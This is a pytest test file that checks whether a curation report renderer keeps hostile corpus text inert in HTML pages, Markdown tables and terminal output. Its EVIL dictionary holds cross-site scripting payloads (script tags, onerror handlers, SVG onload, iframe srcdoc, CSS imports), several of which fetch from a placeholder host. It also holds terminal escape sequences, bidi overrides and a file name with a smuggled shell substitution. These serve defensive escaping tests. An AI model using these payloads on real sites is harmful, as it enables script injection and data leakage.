"""Text from the corpus that wants to be more than text: it stays text on the page, in the UI's Markdown and in a terminal."""

import http.server
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import numpy as np
import polars as pl
import pytest

from curation_assets.common.markdown import markdown_table, text_table
from curation_assets.engine.graph import STEPS
from curation_assets.engine.materialize import shown
from curation_assets.report.documents_build import documents
from curation_assets.report.page import Glance, Mark, Part, Report, Source, numbers_of, render, visible
from curation_assets.report.page_build import page, published
from curation_assets.report.section import Excerpt, Figure, Section, Table
from curation_assets_tests.making import load, materialize
from curation_assets_tests.report.hand_made import texts, workspace
from curation_assets_tests.report.reading_pages import Page, assert_inert

HOST = "HOST"  # where a request would go; a test that listens puts its own address here
EVIL = {
    "script": "<script>document.title='owned';fetch('http://HOST/script')</script>",
    "handler": "\"'><img src=x onerror=\"document.title='owned';new Image().src='http://HOST/handler'\">",
    "image": "<img src=http://HOST/img>",
    "markdown": "![x](http://HOST/markdown) [y](javascript:alert(1)) <http://HOST/auto> `a` | b | *c* $x$ # d",
    "address": "javascript:document.title='owned'",
    "end": "</svg></style></pre></table></title><style>@import 'http://HOST/css';*{background:url(http://HOST/url)}</style>",
    "svg": "<svg onload=\"document.title='owned'\"><script xlink:href='http://HOST/svg'/></svg>",
    "frame": "<iframe srcdoc=\"<script>top.document.title='owned'</script>\"></iframe><base href='http://HOST/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://HOST/refresh'><link rel=stylesheet href=http://HOST/l>",
    "comment": "<!-- --!> <![CDATA[ ]]> <?x ?> &lt;script&gt; &#60;script&#62;",
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2J",
    "bidi": "abc\u202eexe.txt\u2066\u2069\u200f\u061c",
    "nul": "nul\x00\x08\x7f\ud800",
    "long": "w" * 4000,
    "lines": "a\r\nb\u2028c\n\n# head\n| x |\n|---|",
}
_STEERING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


def _svg(host: str) -> bytes:
    """Return a picture that wants to run and to load: as an image it can do neither."""
    evil = f"<script>document.title='owned'</script><image href='http://{host}/image'/><a href='//{host}/a'/>"
    style = f"<style>@import 'http://{host}/css';*{{background:url(http://{host}/url)}}</style>"
    start = "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9' onload=\"document.title='owned'\">"
    return f"{start}{evil}{style}</svg>".encode()


def _report(host: str = HOST) -> Report:
    """Return a report with hostile text wherever a text can stand."""
    evil = {name: text.replace(HOST, host) for name, text in EVIL.items()}
    whole = list(evil.values())
    links = [(f"random/{text}", text) for text in whole]
    section = Section(
        title=" ".join(whole),
        intro="\n\n".join(whole),
        findings=whole,
        figures=[Figure(f"f{i}", text, text) for i, text in enumerate(whole)],
        tables=[
            Table(text, [text, "n"], [[text, i], [None, 1.5]], [text], "", [link, None])
            for i, (text, link) in enumerate(zip(whole, links, strict=True))
        ],
        method="\n\n".join(whole),
        excerpts=[
            Excerpt([t], t, t, t, t, {t: 50.0, "random": 1.0}, link)
            for t, link in zip(whole, links, strict=True)
        ],
    )
    svgs = {f"f{i}": _svg(host) for i in range(len(whole))}
    data = {f"f{i}": numbers_of([text], [[text]], 9) for i, text in enumerate(whole)}
    marks = {text: [Mark(text, "better", link)] for text, link in zip(whole, links, strict=True)}
    glance = Glance(whole[0], [(whole[1], 1)], [whole[2]], marks, whole[3])
    parts = [Part(whole[0], section, whole, svgs, data), Part(whole[1], None)]
    sources = [Source(key, partition, partition, partition) for key, partition in links]
    return Report(whole[0], whole, list(zip(whole, whole, strict=True)), [glance], parts, sources)


@pytest.mark.parametrize("name", EVIL)
def test_on_the_page_it_is_text(name: str) -> None:
    source = render(_report())
    found = Page(source)
    assert_inert(found)
    assert not _STEERING.search(source)
    assert visible(EVIL[name]) in "".join(t for _, _, parts in found.elements for t in parts)
    source.encode()


@pytest.mark.parametrize("name", EVIL)
def test_in_the_ui_it_is_text(name: str) -> None:
    table = markdown_table([{"id": EVIL[name], EVIL[name]: 1}])
    assert len(table.splitlines()) == 3
    assert not re.search(
        r"(?<!\\)[<>\[\]`*$]", table.replace("<!-- -->", "")
    )  # nothing that Markdown or HTML would take for itself
    assert all(len(re.findall(r"(?<!\\)\|", line)) == 3 for line in table.splitlines())
    assert not _STEERING.search(table)


@pytest.mark.parametrize("name", EVIL)
def test_in_a_terminal_it_is_text(name: str) -> None:
    table = text_table([{"id": EVIL[name], EVIL[name]: 1}])
    assert len(table.splitlines()) == 3 and all(len(line) < 200 for line in table.splitlines())
    assert not _STEERING.search(table)


def test_from_the_corpus_to_page_and_ui(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The corpus quarantines what no text has (NUL, escapes); all else goes the whole way, in ids, sources and file names, too."""
    evil = [
        (f"{name} {text[:150]}", f"{text} of document {name}", text[:200])
        for name, text in EVIL.items()
        if name != "nul"
    ]
    shard = "a<img src=x onerror=alert(1)>'$(x).jsonl"

    def scores(ids: list[str]) -> np.ndarray:
        return np.array([1.0 + ("<" in i) + len(i) / 1e4 for i in ids])

    samplers = {"density": scores, "ask_llm_small": scores, "ask_llm_xxl": lambda ids: -scores(ids)}
    found = workspace(tmp_path, monkeypatch, {shard: evil, "b.jsonl": texts(40)}, samplers)
    receipt, _ = materialize(
        found, STEPS["report/documents"], "", lambda inputs: load(documents, found, STEPS["report/documents"])
    )
    materialize(found, STEPS["report/page"], "", lambda inputs: load(page, found, STEPS["report/page"]))
    source = published(found).read_text("utf-8")
    assert_inert(Page(source))
    assert not _STEERING.search(source)
    table = pl.read_parquet(found.open("report/documents") / "documents.parquet")
    shown_evil = [i for i in table["doc_id"].to_list() if "<script" in i]
    assert shown_evil and all(visible(i) in Page(source).text("code") for i in shown_evil)
    assert f"row 0 of {shard}" in Page(source).text() or f"of {shard}" in Page(source).text()
    previews = [str(v) for v in shown(found, receipt).values() if "|" in str(v)]
    assert previews
    for markdown in previews:
        own = re.sub(r"<!-- -->|^\*\*[A-Za-z ]+\*\*$", "", markdown, flags=re.MULTILINE)  # captions are ours
        assert not re.search(r"(?<!\\)[<>\[\]`*$]", own) and not _STEERING.search(markdown)


CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
needs_a_browser = pytest.mark.skipif(
    CHROMIUM is None, reason="no Chromium on the PATH: apt-get install chromium"
)


class _Listener(http.server.BaseHTTPRequestHandler):
    """Notes every request that reaches it."""

    def do_GET(self) -> None:
        """Note a request."""
        self.server.seen.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def listener() -> Iterator[http.server.ThreadingHTTPServer]:
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Listener) as server:
        server.seen = []  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


def _in_a_browser(path: Path, profile: Path) -> str:
    """Return the document as it stands when a browser has run it for two seconds of its own time."""
    assert CHROMIUM
    settings = [
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
    ]
    command = [
        CHROMIUM,
        *settings,
        f"--user-data-dir={profile}",
        "--virtual-time-budget=2000",
        "--dump-dom",
        path.as_uri(),
    ]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout


@pytest.mark.browser
@needs_a_browser
def test_in_a_browser_nothing_runs_and_nothing_is_asked_for(
    tmp_path: Path, listener: http.server.ThreadingHTTPServer
) -> None:
    report = _report(f"127.0.0.1:{listener.server_port}")
    source = render(replace(report, title="A title"))
    (tmp_path / "page.html").write_text(source, "utf-8")
    seen = Page(_in_a_browser(tmp_path / "page.html", tmp_path / "profile"))
    wanted = Page(source)
    assert seen.text("title") == wanted.text("title") and "A title" in seen.text("title")
    tags = [(name, attrs) for name, attrs, _ in seen.elements]
    assert tags == [(name, attrs) for name, attrs, _ in wanted.elements]  # the document is what was written
    assert listener.seen == []  # type: ignore[attr-defined]


@pytest.mark.browser
@needs_a_browser
def test_the_same_text_unescaped_would_run(tmp_path: Path, listener: http.server.ThreadingHTTPServer) -> None:
    """So that the test above can fail: without escaping, the browser runs it and the request arrives."""
    text = EVIL["handler"].replace(HOST, f"127.0.0.1:{listener.server_port}")
    (tmp_path / "page.html").write_text(f"<!DOCTYPE html><title>A title</title><p>{text}</p>", "utf-8")
    seen = Page(_in_a_browser(tmp_path / "page.html", tmp_path / "profile"))
    assert "owned" in seen.text("title")
    assert listener.seen  # type: ignore[attr-defined]
